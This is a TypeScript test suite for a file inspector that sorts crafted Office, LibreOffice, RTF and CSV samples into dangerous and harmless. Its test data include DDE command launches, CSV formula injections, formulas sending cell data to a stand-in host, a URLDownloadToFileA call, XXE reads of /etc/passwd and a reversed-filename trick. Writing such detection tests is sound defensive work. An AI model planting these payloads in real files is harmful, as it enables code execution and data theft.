import { gzipSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import { inspectFile } from '#functions/documents/inspect/inspect-file.ts';
import { plainWords } from '#schemas/held-files.ts';
import { writeCompoundFile } from '#test/fixtures/compound-file-writer.ts';
import {
  binaryDoc,
  docx,
  field,
  type MadeDocument,
  mainPart,
  odt,
  paragraph,
  pdf,
  png,
  relationshipsPart,
  rtf,
  textFile,
} from '#test/fixtures/hostile-files.ts';
import { writeZip } from '#test/fixtures/zip-writer.ts';

/** Type and reasons, or the type alone when the file is safe; notes in brackets. */
function verdict(file: Uint8Array, name?: string): string {
  const { type, safety, notes, fault } = inspectFile(file, name);
  expect(fault).toBeUndefined();
  const reasons = safety.state === 'safe' ? '' : `: ${safety.reasons.map(({ code }) => code).join(' ')}`;
  return `${type}${reasons}${notes.length === 0 ? '' : ` (${notes.join(' ')})`}`;
}

type Case = readonly [expected: string, why: string, file: Uint8Array, name?: string];

/** A part of a document with the relationship of the main part that leads to it. */
const part = (kind: string, target: string, bytes: string | Uint8Array, more: MadeDocument = {}): Uint8Array =>
  docx({
    ...more,
    relationships: [{ kind, target }, ...(more.relationships ?? [])],
    members: [{ name: `word/${target}`, bytes }, ...(more.members ?? [])],
  });
const settings = (inner: string): Uint8Array => part('settings', 'settings2.xml', `<w:settings>${inner}</w:settings>`);
const drawing = (inner: string): Uint8Array => part('image', 'media/image1.svg', `<svg xmlns="x">${inner}</svg>`);
const pict = (inner: string): Uint8Array => docx({ body: `<w:p><w:r><w:pict>${inner}</w:pict></w:r></w:p>` });
const video = (page: string): Uint8Array =>
  docx({ body: `<w:p><w:drawing><wp15:webVideoPr embeddedHtml="${page}" h="1" w="1"/></w:drawing></w:p>` });
const base = (address: string): Uint8Array =>
  part('extended-properties', 'app.xml', `<Properties><HyperlinkBase>${address}</HyperlinkBase></Properties>`);
const panes = (visibility: string, property = ''): Uint8Array =>
  part(
    'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
    'we/taskpanes.xml',
    `<wetp:taskpanes><wetp:taskpane visibility="${visibility}"/></wetp:taskpanes>`,
    {
      members: [
        {
          name: 'word/we/_rels/taskpanes.xml.rels',
          bytes: relationshipsPart([{ kind: 'webextension', target: 'webextension1.xml' }]),
        },
        {
          name: 'word/we/webextension1.xml',
          bytes: `<we:webextension><we:properties>${property}</we:properties></we:webextension>`,
        },
      ],
    },
  );
const AUTO_SHOW = '<we:property name="Office.AutoShowTaskpaneWithDocument" value="true"/>';
const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const separate = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>';
const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
const run = (text: string): string => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`;

describe('Word: held for what it would do when the document is opened', () => {
  const held: Case[] = [
    [
      'docx: dde',
      'Word takes ordinary text between a field’s beginning and its result for the instruction',
      docx({ body: `<w:p>${begin}${run(' DDEAUTO c:\\\\x.exe "/k y" ')}${separate}${run('r')}${end}</w:p>` }),
    ],
    [
      'docx: dde',
      'and so half of an instruction may stand in it',
      docx({ body: `<w:p>${begin}${run('DDE')}<w:r><w:instrText>AUTO x</w:instrText></w:r>${separate}${end}</w:p>` }),
    ],
    ['docx: dde', 'in CDATA', docx({ body: `<w:p>${begin}<w:r><w:t><![CDATA[DDE x]]></w:t></w:r>${end}</w:p>` })],
    [
      'docx: external_content',
      'a mail merge logs on to the server it names (17.14.8 connectString)',
      settings('<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB;Data Source=host.test"/></w:mailMerge>'),
    ],
    ['docx: external_content', 'and runs a query', settings('<w:mailMerge><w:query w:val="SELECT 1"/></w:mailMerge>')],
    ['docx: external_content', 'or opens a file', settings('<w:mailMerge><w:dataSource r:id="rId1"/></w:mailMerge>')],
    [
      'docx: external_content',
      'the manifest of an attached schema is fetched (manifestLocation)',
      settings('<sl:schemaLibrary><sl:schema sl:manifestLocation="http://host.test/m.xml"/></sl:schemaLibrary>'),
    ],
    [
      'docx: dangerous_link',
      'a base makes each link lead to a share, with the reader’s credentials',
      base('\\\\host.test\\x\\'),
    ],
    ['docx: dangerous_link', 'as an address too', base('file://host.test/x/')],
    ['docx: dangerous_link', 'a shape in VML that links to a share', pict('<v:rect href="file://host.test/x"/>')],
    ['docx: dangerous_link', 'a group that does', pict('<v:group href = "\\\\host.test\\x"></v:group>')],
    [
      'docx: external_content',
      'a shape filled with a picture elsewhere',
      pict('<v:shape><v:fill src="http://host.test/a.png"/></v:shape>'),
    ],
    [
      'docx: external_content',
      'an online video: a page with scripts in a browser of Word’s own',
      video('&lt;script&gt;x()&lt;/script&gt;'),
    ],
    ['docx: active_control', 'a script in a drawing, which a browser runs', drawing('<script>x()</script>')],
    ['docx: active_control', 'a script in an attribute', drawing('<rect onload="x()"/>')],
    ['docx: foreign_content', 'a web page in a drawing', drawing('<foreignObject><p/></foreignObject>')],
    [
      'docx: external_content',
      'a picture in a drawing that LibreOffice fetches',
      drawing('<image xlink:href="http://host.test/a"/>'),
    ],
    [
      'docx: external_content',
      'the same with XLink under another name',
      drawing('<image q:href="http://host.test/a" xmlns:q="http://www.w3.org/1999/xlink"/>'),
    ],
    [
      'docx: dangerous_link',
      'a link whose address stands behind a switch',
      docx({
        body: '<w:p><w:fldSimple w:instr="HYPERLINK \\l &quot;top&quot; &quot;file://host.test/x&quot;"/></w:p>',
      }),
    ],
    [
      'docx: include_field',
      'a picture whose address does',
      docx({ body: '<w:p><w:fldSimple w:instr="INCLUDEPICTURE \\d http://host.test/a.png"/></w:p>' }),
    ],
    ['docx: external_content', 'a style that does', drawing('<style>@import "http://host.test/a.css";</style>')],
    [
      'docx: xml_tricks',
      'an entity of a drawing that is another file',
      part('image', 'media/image1.svg', '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>'),
    ],
    ['docx: external_content', 'the pane of an add-in that is shown: a web page ([MS-OWEXML], visibility)', panes('1')],
    ['docx: external_content', 'one that shows itself', panes('0', AUTO_SHOW)],
    [
      'docx: external_content',
      'an add-in within the text',
      part('http://schemas.microsoft.com/office/2011/relationships/webextension', 'we/w.xml', '<we:webextension/>'),
    ],
    [
      'docx: remote_template',
      'Word finds relationships under a name in percent codes (ECMA-376 part 2, part names)',
      docx({
        members: [
          {
            name: 'word/_rels/settings.xml.%72els',
            bytes: relationshipsPart([
              { kind: 'attachedTemplate', target: 'https://host.test/t.dotm', external: true },
            ]),
          },
        ],
      }),
    ],
    [
      'docx: external_content',
      'a folder in percent codes as well',
      docx({
        members: [
          {
            name: 'word/%5frels/footer1.xml.rels',
            bytes: relationshipsPart([{ kind: 'image', target: 'https://host.test/a.png', external: true }]),
          },
        ],
      }),
    ],
    [
      'docx: macros',
      'macros under a name in percent codes',
      docx({ members: [{ name: 'word/vba%50roject.bin', bytes: 'x' }] }),
    ],
    [
      'docx: archive_tricks',
      'two parts of one name',
      docx({ members: [{ name: 'word/%64ocument.xml', bytes: mainPart('') }] }),
    ],
    ...['styles', 'numbering', 'theme', 'fontTable', 'comments'].map(
      (kind): Case => [
        'docx: xml_tricks',
        `a document type in ${kind}: whatever parses the part may fetch it`,
        part(
          kind,
          `${kind}.xml`,
          '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://host.test/">]><x>&e;</x>',
        ),
      ],
    ),
    [
      'docx: xml_tricks',
      'in a part that nothing leads to',
      docx({ members: [{ name: 'word/loose', bytes: '<!DOCTYPE x SYSTEM "http://host.test/d"><x/>' }] }),
    ],
    [
      'docx: embedded_object',
      'a program that calls itself a picture’s page',
      part('image', 'media/image1.aspx', 'MZ\x90\0\x03\0\0\0'),
    ],
    [
      'docx: embedded_object',
      'something packed that is no picture',
      part('image', 'media/image1.emz', gzipSync('PK\x03\x04 more')),
    ],
    ['docx: linked_object', 'a chart whose workbook is elsewhere', chart('http://host.test/b.xlsx')],
  ];
  it.each(held)('%s: %s', (...[expected, , file]) => {
    expect(verdict(file)).toBe(expected);
  });
});

function chart(workbook: string): Uint8Array {
  return part('chart', 'charts/chart1.xml', '<c:chartSpace/>', {
    members: [
      {
        name: 'word/charts/_rels/chart1.xml.rels',
        bytes: relationshipsPart([{ kind: 'oleObject', target: workbook, external: true }]),
      },
    ],
  });
}

const external = (kind: string, target: string): Uint8Array =>
  docx({ relationships: [{ kind, target, external: true }] });
const template = (target: string): Uint8Array =>
  docx({ settings: [{ kind: 'attachedTemplate', target, external: true }] });
const emf = Buffer.concat([Uint8Array.from([1, 0, 0, 0]), Buffer.alloc(36), Buffer.from(' EMF')]);

describe('Word: what looks alike and does nothing', () => {
  const safe: Case[] = [
    ['docx', 'text that writes of DDE behind a field’s result', docx({ body: field('PAGE') + paragraph('DDEAUTO x') })],
    ['docx', 'a field’s shown result', docx({ body: `<w:p>${begin}${separate}${run('DDE x')}${end}</w:p>` })],
    [
      'docx',
      'a mail merge that names no source',
      settings('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val=""/></w:mailMerge>'),
    ],
    ['docx', 'a base on the web', base('https://council.test/')],
    ['docx', 'no base', base('')],
    ['docx', 'a shape that links to the web', pict('<v:rect href="https://council.test/"/>')],
    ['docx', 'a picture in VML by its relationship', pict('<v:imagedata r:id="rId7" o:href="rId8"/>')],
    [
      'docx',
      'a drawing with a link, a picture of its own and Illustrator’s document type',
      part(
        'image',
        'media/image1.svg',
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd" [<!ENTITY ns "http://ns.adobe.com/x/">]><svg xmlns:x="&ns;"><a href="https://council.test"/><image href="data:image/png;base64,AA"/><use href="#a"/></svg>',
      ),
    ],
    ['docx', 'the hidden pane that a grammar checker leaves behind', panes('0')],
    [
      'docx',
      'a picture whose name ends as a web page’s (pasted from SharePoint)',
      part('image', 'media/image1.aspx', png),
    ],
    ['docx', 'a metafile whose name ends as a program’s', part('image', 'media/image1.com', emf)],
    ['docx', 'a packed metafile', part('image', 'media/image1.emz', gzipSync(emf))],
    ['docx', 'a Mac’s packed picture', part('image', 'media/image1.gz', gzipSync(Buffer.alloc(600)))],
    [
      'docx',
      'a packed metafile that is cut short: no program shows it',
      part('image', 'media/image1.wmz', '\x1f\x8b\x08\0\0\0\0\0\0\0'),
    ],
    [
      'docx (local_reference)',
      'a chart pasted from a workbook on the writer’s disk: it shows its own numbers',
      chart('file:///C:\\Users\\a\\Book1.xlsx'),
    ],
    [
      'docx (local_reference)',
      'a template on a Mac’s own disk; Windows would ask a machine called Users',
      template('file:////Users/a/Library/Group%20Containers/x/form.dotx'),
    ],
    ['docx (local_reference)', 'on its disk by address', template('file://localhost/Users/a/form.dotx')],
    ['docx (local_reference)', 'a picture linked on a Mac', external('image', 'file:////Volumes/Photos/logo.png')],
  ];
  it.each(safe)('%s: %s', (...[expected, , file]) => {
    expect(verdict(file)).toBe(expected);
  });

  it('a Mac’s folder counts only where a Mac writes it: a host of another name is a share', () => {
    expect(verdict(template('file:////usershost/x.dotx'))).toBe('docx: remote_template');
    expect(verdict(template('\\\\Users\\x.dotx'))).toBe('docx: remote_template');
  });
});

describe('PowerPoint and Excel', () => {
  const slide = (action: string): Uint8Array =>
    writeZip([
      {
        name: '[Content_Types].xml',
        bytes:
          '<Types><Override PartName="/ppt/p.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
      },
      { name: '_rels/.rels', bytes: relationshipsPart([{ kind: 'officeDocument', target: 'ppt/p.xml' }]) },
      { name: 'ppt/p.xml', bytes: '<p:presentation/>' },
      { name: 'ppt/slides/slide1.xml', bytes: `<p:sld><a:hlinkMouseOver action="${action}"/></p:sld>` },
    ]);
  const sheet = (formula: string): Uint8Array =>
    writeZip([
      {
        name: '[Content_Types].xml',
        bytes:
          '<Types><Override PartName="/xl/w.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
      },
      { name: '_rels/.rels', bytes: relationshipsPart([{ kind: 'officeDocument', target: 'xl/w.xml' }]) },
      { name: 'xl/w.xml', bytes: '<workbook/>' },
      { name: 'xl/worksheets/sheet1.xml', bytes: `<worksheet><c><f>${formula}</f></c></worksheet>` },
    ]);
  const files: Case[] = [
    ['pptx: dangerous_link', 'pointing at a shape starts a program', slide('ppaction://program')],
    ['pptx: macros', 'or a macro', slide('ppaction://macro?name=x')],
    ['pptx: embedded_object', 'or opens an object', slide('ppaction://ole?verb=0')],
    ['pptx', 'or shows the next slide', slide('ppaction://hlinkshowjump?jump=nextslide')],
    ['xlsx: external_content', 'a formula fetches an address', sheet('_xlfn.WEBSERVICE("http://host.test")')],
    ['xlsx', 'a formula adds', sheet('SUM(A1:A9)')],
  ];
  it.each(files)('%s: %s', (...[expected, , file]) => {
    expect(verdict(file)).toBe(expected);
  });
});

describe('a text that Excel, Calc or Google Sheets opens as a table', () => {
  const table = (cell: string): Uint8Array => textFile(`Name,Notes\r\nAnn,${cell}\r\n`);
  const held: Case[] = [
    ...[
      "=2+5+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "+cmd|'/C calc'!A0",
      "-2+3+cmd|'/C calc'!D2",
      `"=cmd|'/C calc'!A0"`,
      "  =cmd|'/C calc'!A0",
      "\t=cmd|'/C calc'!'A1'",
      "=MSEXCEL|'\\..\\cmd.exe /c calc.exe'!''",
      '=excel|system!r1c1',
      "＝cmd|'/C calc'!A0",
    ].map((cell): Case => ['txt: dde', `starts a program: ${cell}`, table(cell)]),
    ['txt: dde', 'behind a semicolon', textFile("Name;Notes\nAnn;=cmd|'/C calc'!A0")],
    ['txt: dde', 'in UTF-16', Uint8Array.from([0xff, 0xfe, ...Buffer.from("a\t=cmd|' /C calc'!A0", 'utf16le')])],
    ...[
      '=WEBSERVICE("http://host.test/"&A1)',
      '"=WEBSERVICE(""http://host.test"")"',
      '+webservice("http://host.test")',
      '=IMPORTXML(CONCAT("http://host.test?",A1),"//a")',
      '@IMPORTDATA("http://host.test")',
      '=IFERROR(IMPORTRANGE("x","y"),1)',
      '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://host.test")',
      '=DDE("soffice";"/etc/passwd";"x")',
    ].map((cell): Case => ['txt: external_content', `fetches an address: ${cell}`, table(cell)]),
    ['txt: dangerous_link', 'hands over a cell on a click', table('=HYPERLINK("http://host.test/"&A1,"Open")')],
    ['txt: linked_object', 'opens a workbook on a share', table("='\\\\host.test\\x\\[b.xlsx]S'!A1")],
    ['txt: macros', 'is SYLK, whatever it is called', textFile('ID;PWXL;N;E\r\nC;X1;Y1;ECALL("x")\r\nE\r\n')],
  ];
  it.each(held)('%s: %s', (...[expected, , file]) => {
    expect(verdict(file, 'export.csv')).toBe(expected);
  });

  const safe: string[] = [
    '-2',
    '+44 7700 900123',
    '@handle',
    '=1+1',
    '=SUM(A1:A9)',
    '"+44 (0)116 496 0000"',
    '-',
    '= see notes =',
    '- call (mum) at 5 | urgent!',
    '- Mum | worried!',
    'a=b | c!',
    '@school.test|office',
    '- image (attached)',
    'WEBSERVICE("x") is a function',
    'https://council.test/?q=1',
  ];
  it.each(safe)('%s is a cell like any other', (cell) => {
    expect(verdict(table(cell), 'export.csv')).toBe('txt');
  });

  it('a table whose first column is ID is no SYLK', () => {
    expect(verdict(textFile('ID;Phone;Class\n1;x;C;\nC;x;E\n'), 'export.csv')).toBe('txt');
  });
});

describe('LibreOffice', () => {
  const scripts = (inner: string): Uint8Array => odt({ body: `<office:scripts>${inner}</office:scripts>` });
  const menus = (markup: string, name = 'accelerator/current.xml'): Uint8Array =>
    odt({ members: [{ name: `Configurations2/${name}`, bytes: markup }] });
  const files: Case[] = [
    [
      'odt: macros',
      'Basic in content.xml runs when its event comes (ODF 1.3 part 3, office:script)',
      scripts(
        '<office:script script:language="ooo:Basic"><ooo:libraries><ooo:module ooo:name="M"><ooo:source-code>Sub x</ooo:source-code></ooo:module></ooo:libraries></office:script>',
      ),
    ],
    [
      'odt: macros',
      'as does any other language',
      scripts('<office:script script:language="JavaScript">x()</office:script>'),
    ],
    [
      'odt: macros',
      'a script in the text',
      odt({ body: '<text:script script:language="JavaScript">x()</text:script>' }),
    ],
    ['odt: macros', 'a field that runs a macro', odt({ body: '<text:execute-macro text:name="x"/>' })],
    [
      'odt: macros',
      'a shortcut key bound to a macro',
      menus('<accel:item xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'),
    ],
    ['odt: macros', 'a menu', menus('<menu:menuitem menu:id="macro:///Standard.M.x()"/>', 'menubar/menubar.xml')],
    ['odt: macros', 'a link to a command', odt({ body: '<text:a xlink:href=".uno:x">x</text:a>' })],
    [
      'odt: external_content',
      'XForms data are fetched on opening (XForms 1.1, 3.3.2)',
      odt({ body: '<xforms:instance src="http://host.test/x"/>' }),
    ],
    [
      'odt: external_content',
      'the picture of a form',
      odt({ body: '<form:image-frame form:image-data="http://host.test/a.png"/>' }),
    ],
    ['odt: external_content', 'and sent (11.1)', odt({ body: '<xforms:submission action="http://host.test/x"/>' })],
    [
      'odt: external_content',
      'a schema is fetched (3.3.1)',
      odt({ body: '<xforms:model schema="#a http://host.test/x"/>' }),
    ],
    [
      'odt: external_content',
      'a font from elsewhere',
      odt({ body: '<svg:font-face-uri xlink:href="http://host.test/f"/>' }),
    ],
    [
      'odt: external_content',
      'a form that is sent elsewhere',
      odt({ body: '<form:form xlink:href="http://host.test/"/>' }),
    ],
    [
      'odt: remote_template',
      'a template elsewhere, which LibreOffice compares on opening',
      odt({ body: '<meta:template xlink:href="http://host.test/t.ott"/>' }),
    ],
    [
      'odt: xml_tricks',
      'entities in any part',
      odt({ members: [{ name: 'layout-cache.xml', bytes: '<!DOCTYPE x [<!ENTITY e SYSTEM "x">]><x/>' }] }),
    ],
    [
      'odt: active_control',
      'a drawing with a script',
      odt({ members: [{ name: 'Pictures/a.svg', bytes: '<svg><script/></svg>' }] }),
    ],
    [
      'odt',
      'the empty library that LibreOffice writes',
      scripts(
        '<office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"/></ooo:libraries></office:script>',
      ),
    ],
    ['odt', 'a shortcut key of the program’s own, and an empty list', menus('<accel:item xlink:href=".uno:Save"/>')],
    ['odt', 'an empty part', menus('')],
    [
      'odt',
      'XForms data within the document',
      odt({ body: '<xforms:instance id="i"><data/></xforms:instance><xforms:submission action="#x"/>' }),
    ],
    [
      'odt',
      'a template on the writer’s disk, an image map, a form that goes nowhere',
      odt({
        body: '<meta:template xlink:href="../form.ott"/><draw:area-rectangle xlink:href="https://council.test"/><form:form xlink:href=""/>',
      }),
    ],
  ];
  it.each(files)('%s: %s', (...[expected, , file]) => {
    expect(verdict(file)).toBe(expected);
  });
});

describe('rich text', () => {
  const shape = (name: string, value: string, more = ''): Uint8Array =>
    rtf(`{\\shp{\\*\\shpinst{\\sp{\\sn ${name}}{\\sv ${value}}}${more}}}`);
  const files: Case[] = [
    [
      'rtf: external_content',
      'a background loaded from elsewhere ([MS-ODRAW] 2.4.8, linkToFile)',
      shape('fillBlipName', 'http://host.test/b.png', '{\\sp{\\sn fillBlipFlags}{\\sv 10}}'),
    ],
    ['rtf: external_content', 'a picture whose flags do not come', shape('pibName', '\\\\\\\\host.test\\\\b.png')],
    [
      'rtf: dangerous_link',
      'a shape that links to a share',
      shape('pihlShape', '{\\*\\hl{\\hlloc }{\\hlsrc file://host.test/x}{\\hlfr x}}'),
    ],
    ['rtf: dangerous_link', 'a base of all links', rtf('{\\info{\\hlinkbase \\\\\\\\host.test\\\\x}}')],
    ['rtf: active_control', 'a script anchor', shape('wzScript', '<script>')],
    [
      'rtf: external_content',
      'a mail merge with its source',
      rtf('{\\*\\mailmerge{\\*\\mmconnectstr Provider=SQLOLEDB}}'),
    ],
    ['rtf: external_content', 'or its query', rtf('{\\*\\mailmerge{\\*\\mmquery SELECT 1}}')],
    ['rtf: external_content', 'a chapter in another file', rtf('\\subdocument1')],
    [
      'rtf',
      'a picture in the file that was pasted from the web',
      shape('pibName', 'http://host.test/b.png', '{\\sp{\\sn pibFlags}{\\sv 2}}'),
    ],
    ['rtf', 'a shape that links to the web', shape('pihlShape', '{\\*\\hl{\\hlsrc https://council.test}}')],
    ['rtf', 'a mail merge without a source', rtf('{\\*\\mailmerge\\mmmainformletters}')],
  ];
  it.each(files)('%s: %s', (...[expected, , file]) => {
    expect(verdict(file)).toBe(expected);
  });
});

/** A document of Word 6 with as many WordBasic macros as asked for. */
function word6(macros: number, before: readonly number[] = []): Uint8Array {
  const main = new Uint8Array(4_608);
  const view = new DataView(main.buffer);
  view.setUint16(0, 0xa5dc, true);
  const commands = [0xff, ...before, 1, macros, 0, ...new Array<number>(24 * macros).fill(0), 0x40];
  view.setUint32(0x118, 2_048, true);
  view.setUint32(0x11c, commands.length, true);
  main.set(commands, 2_048);
  return writeCompoundFile([{ path: 'WordDocument', bytes: main }]);
}

/** The properties of a binary document with a base for its links. */
function linkBase(address: string): Uint8Array {
  const stream = Buffer.concat([Buffer.from('_PID_LINKBASE\0'), Buffer.from(address, 'utf16le'), Buffer.alloc(64)]);
  return binaryDoc({ parts: [{ path: '\u0005DocumentSummaryInformation', bytes: stream }] });
}

describe('the old binary Word and Word’s XML', () => {
  const xml = (inner: string, attributes = ''): Uint8Array =>
    textFile(
      `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument ${attributes}>${inner}</w:wordDocument>`,
    );
  const files: Case[] = [
    ['doc: macros', 'WordBasic of Word 6, which Word 97 to 2003 translate and run', word6(1)],
    ['doc: macros', 'behind its key maps', word6(2, [3, 1, 0, ...new Array<number>(14).fill(0)])],
    ['doc', 'Word 6 with an empty list of macros', word6(0)],
    ['doc: dangerous_link', 'a base of all links on a share', linkBase('\\\\host.test\\x')],
    ['doc', 'a base on the web', linkBase('https://council.test/')],
    [
      'xml',
      'Word 2003 XML: no macros can stand in it but where it says so',
      xml('<w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body>'),
    ],
    [
      'xml',
      'its own pictures and a link',
      xml('<v:imagedata src="wordml://01000001.png"/><w:hlink w:dest="https://council.test"/>'),
    ],
    ['xml: macros', 'macros', xml('', 'w:macrosPresent="yes"')],
    [
      'xml: macros',
      'their data',
      xml('<w:docSuppData><w:binData w:name="editdata.mso">AA</w:binData></w:docSuppData>'),
    ],
    ['xml: embedded_object', 'an object', xml('<w:docOleData/>')],
    ['xml: active_control', 'a control', xml('', 'w:ocxPresent="yes"')],
    ['xml: dde', 'a DDE field', xml('<w:fldSimple w:instr="DDE x"/>')],
    [
      'xml: remote_template',
      'a template elsewhere',
      xml('<w:docPr><w:attachedTemplate w:val="\\\\host.test\\t.dot"/></w:docPr>'),
    ],
    ['xml: external_content', 'a picture elsewhere', xml('<v:imagedata src="http://host.test/a"/>')],
    ['xml: dangerous_link', 'a link to a share', xml('<w:hlink w:dest="\\\\host.test\\x"/>')],
    ['xml: xml_tricks', 'entities', textFile('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "x">]><w:wordDocument/>')],
  ];
  it.each(files)('%s: %s', (...[expected, , file]) => {
    expect(verdict(file)).toBe(expected);
  });
});

describe('names and pictures', () => {
  const files: Case[] = [
    [
      'docx (extension_mismatch)',
      'a Word file runs nowhere: our name for the download has its type’s extension',
      docx(),
      'Form for S.Com',
    ],
    ['pdf (extension_mismatch)', 'nor does a PDF', pdf(), 'minutes.12.11.pl'],
    ['png (extension_mismatch)', 'nor a picture', png, 'photo.scr'],
    ['txt: dangerous_name', 'a text may be a script', textFile('WScript.Echo 1'), 'photo.vbs'],
    ['html: dangerous_name web_page', 'so may a web page', textFile('<html><script/></html>'), 'form.hta'],
    ['zip: archive dangerous_name', 'and an archive', writeZip([{ name: 'a.class', bytes: 'x' }]), 'form.jar'],
    [
      'docx: dangerous_name',
      'a name that turns its end around deceives whoever reads it',
      docx(),
      'form\u202Excod.exe',
    ],
    [
      'avif',
      'a photograph in AVIF',
      Uint8Array.from(Buffer.from(`\0\0\0\x1cftypavif${'\0'.repeat(40)}`, 'latin1')),
      'photo.avif',
    ],
  ];
  it.each(files)('%s: %s', (...[expected, , file, name]) => {
    expect(verdict(file, name)).toBe(expected);
  });
});

describe('what a reason means to people', () => {
  it('nobody asks a sender for a safe copy of a council’s own template or intranet link, or of a web page whose words are shown', () => {
    const noHelp = Object.entries(plainWords).filter(([, { senderCanHelp }]) => !senderCanHelp);
    expect(noHelp.map(([code]) => code)).toEqual(['remote_template', 'dangerous_link', 'web_page']);
  });

  it('words stay unread only where the file cannot be read, needs a password, or shows two programs two things', () => {
    const unread = Object.entries(plainWords).filter(([, { wordsMayBeRead }]) => !wordsMayBeRead);
    expect(unread.map(([code]) => code)).toEqual([
      'empty',
      'truncated',
      'damaged',
      'too_large',
      'bomb',
      'archive_tricks',
      'password_protected',
      'executable',
      'disguised',
      'unknown_type',
      'could_not_inspect',
    ]);
  });
});
